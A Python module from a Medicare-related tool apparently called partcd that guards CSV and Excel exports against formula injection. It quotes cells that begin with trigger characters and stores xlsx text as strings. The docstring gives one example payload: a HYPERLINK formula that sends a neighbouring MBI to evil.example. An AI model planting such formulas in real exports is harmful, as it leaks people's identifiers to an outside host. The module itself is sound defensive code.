"""CSV and Excel exports that a spreadsheet cannot execute (formula injection, OWASP "CSV Injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, TAB or CR is read by Excel, LibreOffice and Google Sheets
as a formula: an enrollee name ``=HYPERLINK("http://evil.example/?d="&C2,"x")`` in an audit universe would send
the neighbouring MBI away when the file is opened. Every CSV and Excel writer of partcd passes its cells through
:func:`safe_cell`, the one neutraliser: such a text gets a leading single quote (OWASP's recommendation; the
spreadsheet then shows it as text). Numbers stay numbers, including negative ones, and so does a text that is only
a decimal number (``-3``, ``+1.5``, ``-2e3``): it cannot be a formula. In ``.xlsx`` files every text is also
written as a string cell (:func:`xlsx_row`), never as a formula cell, whatever it starts with.

Helpers: :func:`safe_row` (a dict of cells), :func:`safe_table` (the text columns of an Arrow table, for
writers that go through Arrow), :func:`xlsx_row` (append one row to an openpyxl worksheet), :func:`write_records`
(a table to ``.csv``, ``.json``, ``.parquet`` or ``.xlsx`` by its extension; the CLI's ``--out`` goes through
:func:`partcd.platform.cli.output.write_table`, which checks the flag first).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, TypeVar

if TYPE_CHECKING:
    import pyarrow as pa

#: The first characters that make a spreadsheet evaluate a cell (OWASP CSV Injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A text that is only a decimal number (it starts with + or - but is read as a number, never as a formula).
NUMBER_PATTERN = r"^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$"
_NUMBER = re.compile(NUMBER_PATTERN)
_TRIGGER_PATTERN = "^[=+\\-@\t\r]"

V = TypeVar("V")


def safe_cell(value: V) -> V | str:
    """``value`` as a spreadsheet shows it without executing it: a text that starts with a formula trigger gets a
    leading ``'``; numbers, dates, None and plain numeric texts are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Mapping[str, V]) -> dict[str, V | str]:
    """Every cell of a row (e.g. for ``csv.DictWriter``) through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}


def safe_table(table: pa.Table) -> pa.Table:
    """The Arrow table with every text column (plain, large or dictionary-encoded) through :func:`safe_cell`,
    computed by Arrow column by column (nulls stay null; columns without a trigger are left untouched)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns: list[Any] = []
    for field, column in zip(table.schema, table.columns, strict=True):
        kind = field.type
        if pa.types.is_dictionary(kind) and (pa.types.is_string(kind.value_type) or pa.types.is_large_string(kind.value_type)):
            column = column.cast(kind.value_type)
            kind = kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.and_kleene(pc.match_substring_regex(column, _TRIGGER_PATTERN),
                                  pc.invert(pc.match_substring_regex(column, NUMBER_PATTERN)))
            if pc.any(risky).as_py():
                column = pc.if_else(risky, pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind)),
                                    column)
        columns.append(column)
    return pa.Table.from_arrays(columns, names=table.column_names)


def xlsx_row(worksheet: Any, values: Iterable[object]) -> None:
    """Append one row to an openpyxl worksheet: texts through :func:`safe_cell` and typed as strings (openpyxl
    would otherwise store a text starting with ``=`` as a formula); numbers, booleans and dates keep their type."""
    worksheet.append([safe_cell(value) for value in values])
    for cells in worksheet.iter_rows(min_row=worksheet.max_row, max_row=worksheet.max_row):
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"


#: The UTF-8 byte-order mark that makes Excel read a CSV file as UTF-8 (``--excel-csv``).
UTF8_BOM = b"\xef\xbb\xbf"

#: The table formats a file can be written in, by extension (``--out``); the extension picks the writer.
TABLE_EXTENSIONS = (".csv", ".json", ".parquet", ".xlsx")


def table_rows(data: Any) -> list[dict[str, Any]]:
    """Rows (dicts) of a list of dicts, an Arrow table, a pandas DataFrame or an Ibis expression."""
    if isinstance(data, list):
        return data
    if hasattr(data, "to_pylist"):  # Arrow table
        return list(data.to_pylist())
    if hasattr(data, "to_dict") and hasattr(data, "columns"):  # pandas DataFrame
        return list(data.to_dict(orient="records"))
    if hasattr(data, "to_pyarrow"):  # Ibis expression
        return list(data.to_pyarrow().to_pylist())
    raise TypeError(f"cannot write {type(data).__name__} as a table")


def write_records(data: Any, path: Path, *, columns: Sequence[str] | None = None, excel_csv: bool = False,
                  float_text: Callable[[float], str] = repr, sheet: str = "data") -> Path:
    """Write a table to ``path`` in the format its extension names (:data:`TABLE_EXTENSIONS`): CSV (``excel_csv``
    adds the UTF-8 byte-order mark Excel needs to read accents), JSON (a list of objects), Parquet, or Excel
    ``.xlsx`` (one sheet, header row frozen, filters on). Values are written exactly (no rounding); CSV and Excel cells
    go through :func:`safe_cell` (an Arrow table is written by Arrow's CSV writer, every text quoted).
    ``columns`` orders and selects the columns (a missing key is an empty cell).
    Only the parent folder is created: ``path`` itself is always a file."""
    suffix = path.suffix.lower()
    if suffix not in TABLE_EXTENSIONS:
        raise ValueError(f"unknown table extension {suffix!r} (one of {', '.join(TABLE_EXTENSIONS)})")
    rows = table_rows(data)
    names = list(columns) if columns is not None else _column_names(data, rows)
    path.parent.mkdir(parents=True, exist_ok=True)
    if suffix == ".json":
        path.write_text(json.dumps([{k: r.get(k) for k in names} for r in rows], indent=2, default=str) + "\n",
                        encoding="utf-8")
    elif suffix == ".parquet":
        import pyarrow as pa
        import pyarrow.parquet as pq

        table = data if isinstance(data, pa.Table) and columns is None else \
            pa.Table.from_pylist([{k: _plain(r.get(k)) for k in names} for r in rows]) if rows else \
            pa.table({k: pa.array([], pa.string()) for k in names})
        pq.write_table(table, path)
    elif suffix == ".csv" and hasattr(data, "schema") and hasattr(data, "select"):  # Arrow: its own CSV writer
        import pyarrow.csv as pacsv

        with path.open("wb") as handle:
            if excel_csv:
                handle.write(UTF8_BOM)
            pacsv.write_csv(safe_table(data.select(names)), handle)
    elif suffix == ".csv":
        with path.open("w", encoding="utf-8-sig" if excel_csv else "utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\n")
            writer.writerow([safe_cell(k) for k in names])
            for r in rows:
                writer.writerow([safe_cell(_text(r.get(k), float_text)) for k in names])
    else:
        from openpyxl import Workbook

        book = Workbook()
        worksheet = book.active
        worksheet.title = sheet[:31]
        xlsx_row(worksheet, names)
        for r in rows:
            xlsx_row(worksheet, [_excel(r.get(k)) for k in names])
        worksheet.freeze_panes = "A2"
        if rows:
            worksheet.auto_filter.ref = worksheet.dimensions
        book.save(path)
    return path


def _column_names(data: Any, rows: list[dict[str, Any]]) -> list[str]:
    if hasattr(data, "column_names"):
        return list(data.column_names)
    if hasattr(data, "columns") and not isinstance(data, list):
        return [str(c) for c in data.columns]
    names: dict[str, None] = {}
    for r in rows:
        names.update(dict.fromkeys(r))
    return list(names)


def _plain(value: object) -> object:
    """A Parquet cell: lists of texts stay lists, dicts become JSON text (their keys vary from row to row)."""
    return json.dumps(value, default=str) if isinstance(value, dict) else value


def _text(value: object, float_text: Callable[[float], str]) -> object:
    """A CSV cell: None empty, booleans lowercase, floats exact (``float_text``), lists joined by "; ", dicts JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, float):
        return float_text(value)
    if isinstance(value, list | tuple):
        return "; ".join(str(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, default=str)
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    return value


def _excel(value: object) -> object:
    """An Excel cell: numbers, booleans and naive dates keep their type (exact values); lists are joined by "; ",
    dicts are JSON text and an instant with a UTC offset is its ISO 8601 text (Excel has no time zones)."""
    if isinstance(value, list | tuple):
        return "; ".join(str(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, default=str)
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.isoformat()
    if isinstance(value, dt.time | dt.timedelta):
        return str(value)
    return value
